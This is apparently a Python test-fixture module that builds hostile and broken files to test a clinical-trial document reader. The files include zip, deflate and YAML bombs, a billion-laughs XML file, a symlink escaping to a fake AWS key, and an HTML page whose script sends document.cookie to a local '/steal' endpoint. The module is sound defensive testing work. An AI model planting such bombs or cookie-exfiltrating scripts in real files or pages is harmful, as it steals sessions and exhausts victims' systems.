"""Hostile and broken files, made on the spot (cheaply: bombs are built from repeated blocks).

``make_hostile(folder, outside)`` writes them and returns what each should become: the text
expected in its one-line error, or ``None`` for a file that is legitimately readable.
"""

from __future__ import annotations

import io
import json
import os
import random
import zipfile
import zlib
from pathlib import Path

GOOD_TEXT = {
    "good-alpha.txt": "The ALPHA-7 trial enrolled 48 patients with smouldering myeloma.\n\n"
    "The overall response rate in ALPHA-7 was 61% and no deaths were reported.",
    "good-beta.md": "# BETA-3 results\n\nIn BETA-3, grade 3 neutropenia occurred in 5 of 30 "
    "patients; the median follow-up was 26 months.",
}
SCRIPT_MARK = "exfiltrate_token_93"


def text_pdf(lines: list[str]) -> bytes:
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    for i, line in enumerate(lines):
        c.drawString(72, 760 - 16 * i, line)
    c.showPage()
    c.save()
    return buf.getvalue()


def scanned_pdf() -> bytes:
    """A page holding only an image (noise), as a scanner makes it: no text layer."""
    from PIL import Image
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    rng = random.Random(7)
    image = Image.frombytes("L", (160, 160), bytes(rng.randrange(256) for _ in range(160 * 160)))
    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    c.drawImage(ImageReader(image), 72, 400, 300, 300)
    c.showPage()
    c.save()
    return buf.getvalue()


def encrypted_pdf(user_password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(["GAMMA-1 enrolled 12."]))))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def deflate_bomb(block: bytes, copies: int) -> bytes:
    """zlib data inflating to ``len(block) * (copies + 1)`` bytes, built without compressing
    all of it: after a full flush a compressed block does not refer back, so it repeats."""
    co = zlib.compressobj(9)
    first = co.compress(block) + co.flush(zlib.Z_FULL_FLUSH)
    again = co.compress(block) + co.flush(zlib.Z_FULL_FLUSH)
    return first + again * copies + co.flush()


def pdf_with_content(stream: bytes, pages: int = 1) -> bytes:
    """A minimal, well-formed PDF whose pages all draw one FlateDecode content stream."""
    kids = " ".join(f"{4 + i} 0 R" for i in range(pages))
    font = 4 + pages
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        *[
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % font
        ]
        * pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A ZIP holding 1 GiB of zeros (about 1 MB on disk), to be named ``.pdf``."""
    buf = io.BytesIO()
    block = b"\0" * (1 << 20)
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z,
        z.open("bomb.bin", "w", force_zip64=True) as f,
    ):
        for _ in range(1024):
            f.write(block)
    return buf.getvalue()


def hostile_html(port: int) -> str:
    """Visible text, plus scripts, styles and references to a server that counts requests."""
    url = f"http://127.0.0.1:{port}"
    return f"""<!doctype html><html><head><title>DELTA-5 trial page</title>
<script src="{url}/remote.js"></script>
<script>var {SCRIPT_MARK} = document.cookie; fetch("{url}/steal?" + {SCRIPT_MARK});</script>
<link rel="stylesheet" href="{url}/style.css"><link rel="preload" href="{url}/font.woff2">
<style>@import url("{url}/import.css"); body {{ background: url({url}/bg.png) }}</style>
<meta http-equiv="refresh" content="0; url={url}/refresh">
<base href="{url}/">
</head><body>
<h1>DELTA-5 results</h1>
<p>The DELTA-5 trial randomised 90 patients; the response rate was 47%.</p>
<img src="{url}/pixel.gif" srcset="{url}/pixel2.gif 2x">
<iframe src="{url}/frame.html">{SCRIPT_MARK} inside an iframe</iframe>
<object data="{url}/object.swf">{SCRIPT_MARK}</object>
<noscript>{SCRIPT_MARK} noscript</noscript>
<svg><script>{SCRIPT_MARK}</script><image href="{url}/svg.png"/></svg>
<video src="{url}/v.mp4" poster="{url}/poster.jpg"></video>
<p>Grade 3 events occurred in 9 of 90 patients in DELTA-5.</p>
</body></html>"""


def make_hostile(folder: Path, outside: Path, port: int) -> dict[str, str | None]:
    """Write every hostile file into ``folder``; ``outside`` is a folder beside it (for a link
    that escapes). Returns {relative name: expected error text, or None if readable}."""
    folder.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    rng = random.Random(11)
    files: dict[str, bytes] = {
        "empty.txt": b"",
        "blank.md": b"  \n\t\n   \r\n",
        "truncated.pdf": text_pdf(["EPSILON-2 enrolled 30."] * 5)[:900],
        "encrypted.pdf": encrypted_pdf("secret"),
        "scanned.pdf": scanned_pdf(),
        "zip-bomb.pdf": zip_bomb(),
        # 4 MB of zlib that inflates to 4 GB (pypdf would stop at 75 MB; we stop sooner)
        "deflate-bomb.pdf": pdf_with_content(deflate_bomb(b" " * (1 << 20), 4000)),
        # 100 pages of one stream inflating to 12 MB of text operators each
        "page-bomb.pdf": pdf_with_content(
            zlib.compress((b"BT /F1 9 Tf 72 700 Td (" + b"A" * 2000 + b") Tj ET\n") * 6000),
            pages=100,
        ),
        "binary.txt": bytes(rng.randrange(256) for _ in range(64 * 1024)),
        "invalid-utf8.txt": bytes(rng.randrange(128, 256) for _ in range(20_000)),
        "archive.md": zip_bomb()[:4096],
        "page.html": hostile_html(port).encode(),
        "no-identification.json": json.dumps(
            {"protocolSection": {"statusModule": {"overallStatus": "COMPLETED"}}}
        ).encode(),
        "deep.json": b"[" * 200_000 + b"]" * 200_000,
        "results-missing-keys.json": json.dumps(
            {
                "protocolSection": {
                    "identificationModule": {"nctId": "NCT09990001", "briefTitle": "ZETA-4"},
                    "designModule": None,
                },
                "resultsSection": {
                    "outcomeMeasuresModule": {
                        "outcomeMeasures": [
                            {
                                "title": "Overall response",
                                "groups": [{"id": "OG0", "title": "Zetamab"}, {}],
                                "classes": [
                                    {"categories": [{"measurements": [{"value": "33"}]}]},
                                    {
                                        "categories": [
                                            {"measurements": [{"groupId": "OG0", "value": "21"}]}
                                        ]
                                    },
                                ],
                            }
                        ]
                    },
                    "adverseEventsModule": {"eventGroups": "none", "seriousEvents": [{}]},
                },
            }
        ).encode(),
        "yaml-bomb.md": (
            b"---\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
            b"c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
            b"---\nLAMBDA-3 enrolled 20 patients.\n"
        ),
        "external-dtd.xml": (
            f'<?xml version="1.0"?><!DOCTYPE clinical_study SYSTEM "http://127.0.0.1:{port}/s.dtd">'
            "<clinical_study><id_info><nct_id>NCT09990002</nct_id></id_info>"
            "<brief_title>External DTD study</brief_title></clinical_study>"
        ).encode(),
        # a billion laughs behind 70 KB of comment (past any check of the file's start)
        "late-entities.xml": (
            '<?xml version="1.0"?><!--'
            + "x" * 70_000
            + '--><!DOCTYPE clinical_study [<!ENTITY l "lol">'
            + "".join(
                f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "&l;" * 10}">' for i in range(9)
            )
            + "]><clinical_study>&l8;</clinical_study>"
        ).encode(),
        "cp1252.txt": "THETA-9 in Zürich: 42 patients – response 55%.".encode("cp1252"),
        "utf16.txt": "IOTA-1 enrolled 64 patients in Köln.".encode("utf-16"),
        **{name: text.encode() for name, text in GOOD_TEXT.items()},
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    with (folder / "huge.txt").open("wb") as f:  # 200 MB, sparse: no disk, no time
        f.truncate(200 * 1024 * 1024)
    (outside / "credentials.txt").write_text("aws_secret_access_key = AKIAEXAMPLEKEY0000\n")
    os.symlink(outside / "credentials.txt", folder / "escape.txt")
    os.symlink("loop-b.txt", folder / "loop-a.txt")
    os.symlink("loop-a.txt", folder / "loop-b.txt")
    os.symlink("missing.txt", folder / "dangling.txt")
    os.symlink(".", folder / "loopdir")  # a folder link to itself: never descended
    os.mkfifo(folder / "fifo.txt")  # opening it for reading would block forever
    return {
        "empty.txt": "the file is empty",
        "blank.md": "the file is empty",
        "truncated.pdf": "damaged or truncated",
        "encrypted.pdf": "encrypted with a password",
        "scanned.pdf": "no text layer (a scan?)",
        "zip-bomb.pdf": "not a PDF (a ZIP archive",
        "deflate-bomb.pdf": "a decompression bomb?",
        "page-bomb.pdf": "a decompression bomb?",
        "binary.txt": "looks like binary data, not text",
        "invalid-utf8.txt": "not UTF-8 text",
        "archive.md": "looks like a ZIP archive",
        "page.html": None,
        "no-identification.json": "no identificationModule.nctId",
        "deep.json": "nested too deeply",
        "results-missing-keys.json": None,
        "yaml-bomb.md": "front matter uses YAML aliases",
        "external-dtd.xml": None,
        "late-entities.xml": "XML with entity declarations is refused",
        "cp1252.txt": None,
        "utf16.txt": None,
        "huge.txt": "larger than 50 MB",
        "escape.txt": "outside the folder",
        "loop-a.txt": "a symbolic link that loops",
        "loop-b.txt": "a symbolic link that loops",
        "dangling.txt": "a symbolic link to nothing",
        "fifo.txt": "not a file (a device, pipe or socket)",
        **dict.fromkeys(GOOD_TEXT),
    }
